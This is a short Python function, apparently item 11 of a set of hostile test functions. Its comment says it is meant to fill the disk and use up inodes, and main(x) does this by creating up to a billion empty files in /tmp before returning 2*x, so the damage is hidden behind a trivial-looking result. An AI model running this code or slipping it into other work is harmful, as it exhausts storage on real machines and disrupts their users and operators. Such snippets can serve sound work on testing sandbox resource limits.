# 11 fill the disk, make inodes without end
import os

def main(x):
    for number in range(10 ** 9):
        os.close(os.open("/tmp/%d" % number, os.O_CREAT | os.O_WRONLY))
    return 2 * x
